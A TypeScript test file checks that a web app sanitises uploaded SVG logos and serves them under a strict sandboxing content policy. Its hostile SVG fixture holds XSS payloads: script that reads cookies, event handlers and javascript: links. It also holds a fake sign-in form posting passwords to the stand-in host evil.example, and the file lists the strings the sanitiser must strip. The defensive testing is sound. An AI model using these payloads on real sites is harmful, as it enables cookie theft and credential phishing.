import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, beforeEach, expect, it } from 'vitest';
import * as t from '../../db/schema.ts';
import { describeOnEachDatabase } from '../../test-support/each-database.ts';
import { demoDocumentWith, startTestApp, TEST_ADMIN_TOKEN, type TestApp } from '../../test-support/test-app.ts';
import { DEMO_OFFICE_UUID } from '../company-document/demo-company.ts';

const LOGO_POLICY = "default-src 'none'; style-src 'unsafe-inline'; img-src data:; sandbox; form-action 'none'";
const admin = { authorization: `Bearer ${TEST_ADMIN_TOKEN}` };
const PIXEL = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGP4z8DwHwAFAAH/iZk9HQAAAABJRU5ErkJggg==';

/** What the outside probe uploaded (issue 39 item 4), and every other way an SVG can reach out or run. */
const HOSTILE_SVG = `<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE svg [ <!ENTITY who "everyone"> ]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="300" height="64" viewBox="0 0 300 64" onload="alert(1)">
  <style>@import url(https://evil.example/a.css); .x { fill: red }</style>
  <style>.mark { fill: url(#shade) }</style>
  <defs><linearGradient id="shade"><stop offset="0" stop-color="#1f4e79"/><stop offset="1" stop-color="#3a9fbf"/></linearGradient></defs>
  <script>alert(document.cookie)</script>
  <rect class="mark" width="40" height="40" fill="url(#shade)" onclick="steal()"/>
  <rect width="10" height="10" fill="url(https://evil.example/track.svg#g)" style="fill: url('https://evil.example/s.png')"/>
  <image href="https://evil.example/pixel.png" width="1" height="1"/>
  <image xlink:href="data:image/png;base64,${PIXEL}" x="50" width="1" height="1"/>
  <image href="data:image/svg+xml;base64,PHN2Zy8+" width="1" height="1"/>
  <a href="javascript:alert(1)"><text x="60" y="30">Sign&#160;in</text></a>
  <a xlink:href="https://evil.example/"><text x="60" y="50">Scioto</text></a>
  <foreignObject width="300" height="200"><form xmlns="http://www.w3.org/1999/xhtml" action="https://evil.example/steal" method="post"><input name="password" type="password"/><button>Sign in</button></form></foreignObject>
  <animate attributeName="href" to="javascript:alert(1)"/>
  <set attributeName="onmouseover" to="alert(1)"/>
  <iframe src="https://evil.example/"/>
</svg>`;

const base64Svg = (svg: string) => `data:image/svg+xml;base64,${Buffer.from(svg).toString('base64')}`;

/**
 * Issue 39 item 4: an uploaded SVG logo is served from the product's own origin. It is cleaned
 * when saved, and every logo answer carries a policy under which even an uncleaned one (stored
 * before) runs nothing, submits nothing and loads nothing.
 */
describeOnEachDatabase('company and office logos', (factory) => {
  let harness: TestApp;
  beforeAll(async () => {
    harness = await startTestApp(factory);
  });
  beforeEach(async () => importWith({ logo: null, office: null }));
  afterAll(async () => harness.close());

  async function importWith(logos: { logo: string | null; office: string | null }) {
    const response = await harness.app.inject({
      method: 'PUT',
      url: '/api/admin/companies/demo',
      headers: admin,
      payload: demoDocumentWith({}, (document) => {
        document.logo = logos.logo;
        document.offices[0].logo = logos.office;
      }),
    });
    return response;
  }

  const logo = (query = '') => harness.app.inject({ method: 'GET', url: `/demo/logo${query}` });
  const exported = async () =>
    (await harness.app.inject({ method: 'GET', url: '/api/admin/companies/demo', headers: admin })).json<{
      logo: string | null;
      offices: Array<{ logo: string | null }>;
    }>();

  function expectLogoHeaders(response: Awaited<ReturnType<typeof logo>>, contentType: string) {
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe(contentType);
    expect(response.headers['content-security-policy']).toBe(LOGO_POLICY);
    expect(response.headers['x-content-type-options']).toBe('nosniff');
  }

  it('serves every kind of logo with a policy that sandboxes it, submits no form and loads nothing, and nosniff', async () => {
    expectLogoHeaders(await logo(), 'image/svg+xml'); // the default mark
    expect(
      (
        await importWith({
          logo: base64Svg(
            '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 2 2"><rect width="2" height="2"/></svg>',
          ),
          office: `data:image/png;base64,${PIXEL}`,
        })
      ).statusCode,
    ).toBe(200);
    expectLogoHeaders(await logo(`?office=${DEMO_OFFICE_UUID}`), 'image/png');
    await harness.database.db.update(t.offices).set({ logo: null }).where(eq(t.offices.id, DEMO_OFFICE_UUID));
    expectLogoHeaders(await logo(`?office=${DEMO_OFFICE_UUID}`), 'image/svg+xml');
  });

  it('serves an SVG stored before cleaning as it is, under the same policy', async () => {
    // Written straight into the tables, as a logo saved before this change is.
    await harness.database.db
      .update(t.offices)
      .set({ logo: base64Svg(HOSTILE_SVG) })
      .where(eq(t.offices.id, DEMO_OFFICE_UUID));
    const served = await logo(`?office=${DEMO_OFFICE_UUID}`);
    expectLogoHeaders(served, 'image/svg+xml');
    expect(served.body).toContain('<foreignObject');
  });

  for (const [name, encode] of [
    ['base64', base64Svg],
    ['percent-encoded', (svg: string) => `data:image/svg+xml;charset=utf-8,${encodeURIComponent(svg)}`],
  ] as const) {
    it(`keeps only the drawing of an uploaded SVG (${name}), for the office and the company`, async () => {
      expect((await importWith({ logo: encode(HOSTILE_SVG), office: encode(HOSTILE_SVG) })).statusCode).toBe(200);
      const document = await exported();
      for (const stored of [document.logo, document.offices[0]!.logo]) {
        expect(stored).toMatch(/^data:image\/svg\+xml;base64,/);
        const svg = Buffer.from(stored!.split(',')[1]!, 'base64').toString('utf8');
        for (const gone of [
          'foreignObject',
          '<form',
          '<input',
          '<script',
          'onload',
          'onclick',
          'evil.example',
          'javascript:',
          '@import',
          '<animate',
          '<set',
          '<iframe',
          'data:image/svg+xml',
          'DOCTYPE',
        ]) {
          expect(svg, gone).not.toContain(gone);
        }
        // What draws the logo stays, well-formed XML with its namespaces and its own references.
        expect(svg).toMatch(/^<svg xmlns="http:\/\/www\.w3\.org\/2000\/svg"/);
        expect(svg).toContain('viewBox="0 0 300 64"');
        expect(svg).toContain('<linearGradient id="shade">');
        expect(svg).toContain('fill="url(#shade)"');
        expect(svg).toContain('.mark { fill: url(#shade) }');
        expect(svg).toContain(`xlink:href="data:image/png;base64,${PIXEL}"`);
        expect(svg).toContain('Sign\u00a0in');
        expect(svg).toContain('Scioto');
      }
      const served = await logo(`?office=${DEMO_OFFICE_UUID}`);
      expect(served.body).toBe(Buffer.from(document.offices[0]!.logo!.split(',')[1]!, 'base64').toString('utf8'));
    });
  }

  it('keeps a raster logo as it is', async () => {
    const png = `data:image/png;base64,${PIXEL}`;
    expect((await importWith({ logo: png, office: png })).statusCode).toBe(200);
    expect(await exported()).toMatchObject({ logo: png, offices: [{ logo: png }] });
  });

  it('refuses an SVG logo with nothing left to draw, naming its field', async () => {
    const refused = await importWith({
      logo: null,
      office: base64Svg('<html><body><script>alert(1)</script></body></html>'),
    });
    expect(refused.statusCode).toBe(400);
    expect(refused.json().error).toMatchObject({ code: 'invalid_document', field: 'offices.0.logo' });
    const unreadable = await importWith({ logo: 'data:image/svg+xml,%E0%A4%A', office: null });
    expect(unreadable.statusCode).toBe(400);
    expect(unreadable.json().error).toMatchObject({ code: 'invalid_document', field: 'logo' });
  });
});
